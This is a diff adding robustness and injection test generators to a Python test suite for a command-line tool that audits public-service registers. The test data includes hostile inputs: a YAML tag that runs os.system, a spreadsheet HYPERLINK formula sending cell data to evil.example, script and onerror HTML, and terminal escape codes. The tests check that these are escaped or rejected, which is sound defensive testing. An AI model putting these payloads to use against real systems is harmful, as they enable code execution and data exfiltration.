@@ -370,3 +370,288 @@ def bombs() -> Iterator[tuple[str, Builder]]:
     yield "json-sparse-keys", json_sparse
     yield "jsonl-sparse-keys", jsonl_sparse
     yield "diff-names-sharing-words", diff_shared_words
+
+
+# --------------------------------------------------------------------------- 3. tracebacks
+
+
+@generator("tracebacks")
+def tracebacks() -> Iterator[tuple[str, Builder]]:
+    """Inputs that used to end in a traceback: each must give one sentence and exit 2."""
+    reg = str(VALID / "kz_utf8.csv")
+
+    def yaml_file(name: str, text: str | bytes) -> Callable[[Path], Path]:
+        def make(tmp: Path) -> Path:
+            path = tmp / name
+            path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
+            return path
+        return make
+
+    list_key = "? [a, b]\n: 1\nid: x\n"
+    map_key = "? {a: 1}\n: 1\nid: x\n"
+    deep = "a: " + "[" * 5000 + "]" * 5000 + "\n"
+    files = {
+        "rules-list-key": ("rules.yaml", list_key, lambda p: ["classify", reg, "--rules", p]),
+        "policy-map-key": ("policy.yaml", map_key, lambda p: ["check", reg, "--rules", "kz", "--policy", p]),
+        "catalogue-list-key": ("catalogue.yaml", list_key, lambda p: ["audit", reg, "--rules", "kz", "--catalogue", p]),
+        "budget-map-key": ("budget.yaml", map_key, lambda p: ["audit", reg, "--rules", "kz", "--budget", p]),
+        "profile-list-key": ("profile.yaml", list_key, lambda p: ["parse", reg, "--profile", p]),
+        "profile-not-utf8": ("profile.yaml", "profile: x\nfields:\n  name: [наименование]\n".encode("cp1251"), lambda p: ["parse", reg, "--profile", p]),
+        "profile-deep": ("profile.yaml", deep, lambda p: ["parse", reg, "--profile", p]),
+        "profile-python-tag": ("profile.yaml", "profile: !!python/object/apply:os.system ['echo pwned']\n", lambda p: ["parse", reg, "--profile", p]),
+        "rules-deep": ("rules.yaml", deep, lambda p: ["classify", reg, "--rules", p]),
+        "baseline-deep": ("known.json", "[" * 100_000 + "]" * 100_000, lambda p: ["check", reg, "--rules", "kz", "--policy", str(ROOT / "examples/policy.yaml"), "--baseline", p]),
+        "baseline-huge-number": ("known.json", '{"findings": [' + "9" * 100_000 + "]}", lambda p: ["check", reg, "--rules", "kz", "--policy", str(ROOT / "examples/policy.yaml"), "--baseline", p]),
+        "budget-csv-huge-field": ("budget.csv", "cofog,year,level,source,amount\n07,2019,state,\"" + "x" * 200_000 + "\",5\n", lambda p: ["audit", reg, "--rules", "kz", "--budget", p]),
+    }
+    for name, (file_name, text, command) in files.items():
+        def build(tmp: Path, f=file_name, t=text, c=command) -> Case:
+            path = yaml_file(f, t)(tmp)
+            return Case(c(str(path)), reads=[path], stderr=(path.name,))
+        yield name, build
+
+    def surrogates(fmt: str) -> Builder:
+        def build(tmp: Path) -> Case:
+            path = tmp / "surrogates.json"
+            path.write_text('[{"id": "1", "name": "Issuing \\ud800 a permit", "note\\udfff": "x\\udc00"}, {"id": "2", "name": "Pension"}]', encoding="utf-8")
+            command = ["parse", str(path), "--format", fmt] if fmt != "classify-csv" else ["classify", str(path), "--rules", "en", "--format", "csv"]
+            return Case(command, reads=[path], codes=(0,), check=lambda run: run.stdout.decode("utf-8"))
+        return build
+
+    for fmt in ("json", "csv", "jsonl", "table", "classify-csv"):
+        yield f"lone-surrogates-{fmt}", surrogates(fmt)
+
+    def markup_name(tmp: Path) -> Case:
+        path = write_csv(tmp / "markup.csv", ["id", "name"], [["1", "Issuing [/] a [bold]permit[/bold] [link=http://x]"], ["2", "Pension [/]"]])
+        return Case(["classify", str(path), "--rules", "en"], reads=[path], codes=(0,),
+                    check=lambda run: _assert_in(run.stdout.decode(), "[/]"))
+
+    def output_into_proc(tmp: Path) -> Case:
+        return Case(["parse", reg, "--format", "json", "--output", "/proc/register-audit.json"], stderr=("cannot",))
+
+    def output_into_missing_folder(tmp: Path) -> Case:
+        return Case(["parse", reg, "--format", "json", "--output", str(tmp / "no" / "such" / "out.json")], stderr=("does not exist",))
+
+    def output_unwritable(tmp: Path) -> Case:
+        return Case(["parse", reg, "--format", "json", "--output", "/dev/full"], stderr=("device",))
+
+    def newline_in_file_name(tmp: Path) -> Case:
+        path = tmp / "bad\nname.csv"
+        path.write_text("id,name\n1,ok\n2,\"x,y\",z\n", encoding="utf-8")
+        return Case(["parse", str(path)], reads=[path], stderr=("bad\\nname.csv",))
+
+    def newline_in_missing_name(tmp: Path) -> Case:
+        return Case(["parse", str(tmp / "missing\nfile.csv")], stderr=("missing\\nfile.csv",))
+
+    yield "rich-markup-in-names", markup_name
+    yield "output-into-proc", output_into_proc
+    yield "output-into-missing-folder", output_into_missing_folder
+    yield "output-onto-a-device", output_unwritable
+    yield "newline-in-file-name", newline_in_file_name
+    yield "newline-in-missing-file-name", newline_in_missing_name
+
+
+def _assert_in(text: str, word: str) -> None:
+    assert word in text, f"{word!r} not in output"
+
+
+# --------------------------------------------------------------------------- 4. injection
+
+
+@generator("injection")
+def injection() -> Iterator[tuple[str, Builder]]:
+    """Names, titles and file names that would run as formulas, TeX, HTML or terminal codes."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    names = [["1", formula, "+SUM(1,2)"], ["2", "-2+3", "@cmd"], ["3", "\tTabbed", "-5"], ["4", "\rReturn", "Pension"]]
+
+    def register(tmp: Path) -> Path:
+        return write_csv(tmp / "formulas.csv", ["id", "name", "provider"], names)
+
+    def exported(command: list[str]) -> Builder:
+        def build(tmp: Path) -> Case:
+            path = register(tmp)
+            return Case([c.replace("REG", str(path)) for c in command], reads=[path], codes=(0,), check=_no_formula_cells)
+        return build
+
+    yield "csv-parse", exported(["parse", "REG", "--format", "csv"])
+    yield "csv-classify", exported(["classify", "REG", "--rules", "en", "--format", "csv"])
+    yield "csv-audit", exported(["audit", "REG", "--rules", "en", "--format", "csv"])
+
+    def csv_diff(tmp: Path) -> Case:
+        old = write_csv(tmp / "old.csv", ["id", "name"], [["1", "Pension"]])
+        new = write_csv(tmp / "new.csv", ["id", "name"], [["1", "Pension"], ["2", formula]])
+        return Case(["diff", str(old), str(new), "--format", "csv"], reads=[old, new], codes=(0,), check=_no_formula_cells)
+
+    def raw_csv(tmp: Path) -> Case:
+        path = register(tmp)
+        return Case(["--raw-csv", "parse", str(path), "--format", "csv"], reads=[path], codes=(0,),
+                    check=lambda run: _assert_in(run.stdout.decode(), formula.replace('"', '""')))
+
+    def mathtext(tmp: Path) -> Case:
+        path = write_csv(tmp / "$\\foo$ register.csv", ["id", "name"], [["1", "Primary health care $\\frac{a}{$"], ["2", "Pension $x^2$ {\\bad"]])
+        out = tmp / "report.html"
+        return Case(["audit", str(path), "--rules", "en", "--format", "html", "--output", str(out)], reads=[path], codes=(0,),
+                    check=lambda run: _assert_in(out.read_text(encoding="utf-8"), "<svg"))
+
+    def markdown_html(tmp: Path) -> Case:
+        path = write_csv(tmp / "html.csv", ["id", "name"], [["1", "Old-age pension <script>alert(1)</script>"], ["2", 'Kindergarten place <img src=x onerror="alert(2)">']])
+        return Case(["audit", str(path), "--rules", "en", "--format", "markdown"], reads=[path], codes=(0,), check=_no_html_tags)
+
+    def markdown_diff_html(tmp: Path) -> Case:
+        old = write_csv(tmp / "old.csv", ["id", "name"], [["1", "Pension"]])
+        new = write_csv(tmp / "new.csv", ["id", "name"], [["1", "Pension"], ["2", "<script>alert(1)</script>"]])
+        return Case(["diff", str(old), str(new), "--format", "markdown"], reads=[old, new], codes=(0,), check=_no_html_tags)
+
+    def terminal_escapes(tmp: Path) -> Case:
+        path = write_csv(tmp / "esc.csv", ["id", "name"], [["1", "Pension\x1b]0;owned\x07\x1b[2J"], ["2", "Care\x1b[31m red"]])
+        return Case(["classify", str(path), "--rules", "en"], reads=[path], codes=(0,),
+                    check=lambda run: _assert_no_controls(run.stdout))
+
+    def junit_controls(tmp: Path) -> Case:
+        path = write_csv(tmp / "ctl.csv", ["id", "name"], [["1", "Pension\x01\x02\x1b\x0b"], ["2", "Care"]])
+        policy = tmp / "policy.yaml"
+        policy.write_text("version: 1\nchecks:\n  - id: unclassified\n    measure: unclassified_share\n    max: 0.0\n    message: Every service is classified.\n", encoding="utf-8")
+        return Case(["check", str(path), "--rules", "en", "--policy", str(policy), "--format", "junit"], reads=[path, policy],
+                    codes=(0, 1), check=_well_formed_xml)
+
+    yield "csv-diff", csv_diff
+    yield "raw-csv-option", raw_csv
+    yield "matplotlib-mathtext", mathtext
+    yield "markdown-html-audit", markdown_html
+    yield "markdown-html-diff", markdown_diff_html
+    yield "terminal-escapes", terminal_escapes
+    yield "junit-control-characters", junit_controls
+
+
+def _no_formula_cells(run: Run) -> None:
+    rows = list(csv.reader(io.StringIO(run.stdout.decode("utf-8"), newline="")))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()), \
+                f"formula-like cell {cell!r}"
+    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row), "the formula cell is missing"
+
+
+def _no_html_tags(run: Run) -> None:
+    text = run.stdout.decode("utf-8")
+    assert "<script" not in text and "<img" not in text, text[:500]
+    assert "&lt;script&gt;" in text or "&lt;img" in text
+
+
+def _assert_no_controls(data: bytes) -> None:
+    text = data.decode("utf-8")
+    assert not any(ch in text for ch in "\x1b\x07"), repr(text[:300])
+
+
+def _well_formed_xml(run: Run) -> None:
+    import xml.dom.minidom
+
+    xml.dom.minidom.parseString(run.stdout)
+
+
+# --------------------------------------------------------------------------- 5. silent data loss
+
+
+@generator("data_loss")
+def data_loss() -> Iterator[tuple[str, Builder]]:
+    """Files that used to be read wrongly without a word, or with a misleading one."""
+
+    def text_case(name: str, data: bytes, words: tuple[str, ...], args: list[str] | None = None) -> Builder:
+        def build(tmp: Path) -> Case:
+            path = tmp / name
+            path.write_bytes(data)
+            return Case((args or ["parse"]) + [str(path)], reads=[path], stderr=words)
+        return build
+
+    csv_text = "id,name\n1,Pension\n2,Child benefit\n"
+    yield "unterminated-quote", text_case("quote.csv", b'id,name\n1,Pension\n2,"Child benefit\n3,Care\n4,School\n', ("row 3", "never closed"))
+    yield "unterminated-quote-semicolon", text_case("quote.csv", b'id;name\n1;Pension\n2;Care\n3;"School\n4;Water\n', ("row 4", "never closed"))
+    yield "utf32-bom", text_case("utf32.csv", csv_text.encode("utf-32"), ("UTF-32",))
+    yield "utf32-no-bom", text_case("utf32.csv", csv_text.encode("utf-32-le"), ("UTF-32",))
+    cyrillic = ["id;name"] + [f"{i};Выдача справки о регистрации номер {i}" for i in range(1, 20)]
+    mixed = "\r\n".join(cyrillic[:8]).encode("cp1251") + "\r\n8;Выдача разрешения\r\n".encode("utf-8") + "\r\n".join(cyrillic[9:]).encode("cp1251")
+    yield "cp1251-with-a-utf8-line", text_case("mixed.csv", mixed, ("mixes two encodings", "line 9"))
+    yield "pdf-named-csv", text_case("register.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", ("PDF",))
+    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 2048
+    yield "password-protected-xlsx", text_case("locked.xlsx", ole, ("password-protected",))
+
+    def repeated_headers(tmp: Path) -> Case:
+        path = write_csv(tmp / "repeated.csv", ["id", "name", "note", "note"], [["1", "Pension", "first", "second"]])
+        def check(run: Run) -> None:
+            extra = json.loads(run.stdout)["services"][0]["extra"]
+            assert sorted(extra.values()) == ["first", "second"], extra
+        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0,), check=check)
+
+    def pipe_read_once(tmp: Path) -> Case:
+        fifo = tmp / "cat.fifo"
+        os.mkfifo(fifo)
+        data = (VALID / "kz_utf8.csv").read_bytes()
+        return Case(["parse", str(fifo), "--format", "json"], codes=(0,), feed=(fifo, lambda: data), check=lambda run: _assert_services(run, 8))
+
+    def openpyxl_warning(tmp: Path) -> Case:
+        from openpyxl import Workbook
+        from openpyxl.worksheet.datavalidation import DataValidation
+
+        book = Workbook()
+        sheet = book.active
+        sheet.append(["id", "name"])
+        sheet.append(["1", "Pension"])
+        validation = DataValidation(type="list", formula1='"a,b"')
+        sheet.add_data_validation(validation)
+        validation.add("A2")
+        path = tmp / "warns.xlsx"
+        book.save(path)
+        # A part openpyxl does not read, so it warns: an extension list on the worksheet.
+        with zipfile.ZipFile(path) as package:
+            parts = {name: package.read(name) for name in package.namelist()}
+        sheet_xml = parts["xl/worksheets/sheet1.xml"].decode()
+        parts["xl/worksheets/sheet1.xml"] = sheet_xml.replace("</worksheet>", '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"/></ext></extLst></worksheet>').encode()
+        with zipfile.ZipFile(path, "w") as package:
+            for name, data in parts.items():
+                package.writestr(name, data)
+        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0,),
+                    check=lambda run: _assert_quiet(run))
+
+    def diff_key_missing(tmp: Path) -> Case:
+        old = write_csv(tmp / "old.csv", ["id", "name"], [["1", "Pension"]])
+        new = write_csv(tmp / "new.csv", ["id", "name"], [["1", "Pension"]])
+        return Case(["diff", str(old), str(new), "--key", "nosuchcol"], reads=[old, new], stderr=("nosuchcol",))
+
+    yield "repeated-unmapped-headers", repeated_headers
+    yield "process-substitution-read-once", pipe_read_once
+    yield "openpyxl-warning-silenced", openpyxl_warning
+    yield "diff-key-no-such-column", diff_key_missing
+
+
+def _assert_quiet(run: Run) -> None:
+    assert "Warning" not in run.stderr and "openpyxl" not in run.stderr, run.stderr
+
+
+# --------------------------------------------------------------------------- 6. writing outputs
+
+
+@generator("writing")
+def writing() -> Iterator[tuple[str, Builder]]:
+    """Outputs replace files atomically, keep their permissions, and leave nothing behind."""
+
+    def keeps_mode(tmp: Path) -> Case:
+        out = tmp / "private.json"
+        out.write_text("{}", encoding="utf-8")
+        out.chmod(0o600)
+        def check(run: Run) -> None:
+            assert (out.stat().st_mode & 0o777) == 0o600, oct(out.stat().st_mode)
+            assert json.loads(out.read_text(encoding="utf-8"))["services"]
+        return Case(["parse", str(VALID / "kz_utf8.csv"), "--format", "json", "--output", str(out)], codes=(0,), check=check)
+
+    def sigterm(tmp: Path) -> Case:
+        big = write_csv(tmp / "big.csv", ["id", "name"], [[str(i), f"Issuing certificate number {i} for a building plot"] for i in range(150_000)])
+        out = tmp / "out"
+        out.mkdir()
+        def check(run: Run) -> None:
+            left = [p.name for p in out.iterdir() if p.name.endswith(".tmp")]
+            assert not left, f"temporary files left behind: {left}"
+        return Case(["parse", str(big), "--format", "json", "--output", str(out / "big.json")], reads=[big],
+                    codes=(0, -15, 143), signal_after=2.5, check=check)
+
+    yield "replaced-output-keeps-its-mode", keeps_mode
+    yield "sigterm-leaves-no-temporary-file", sigterm
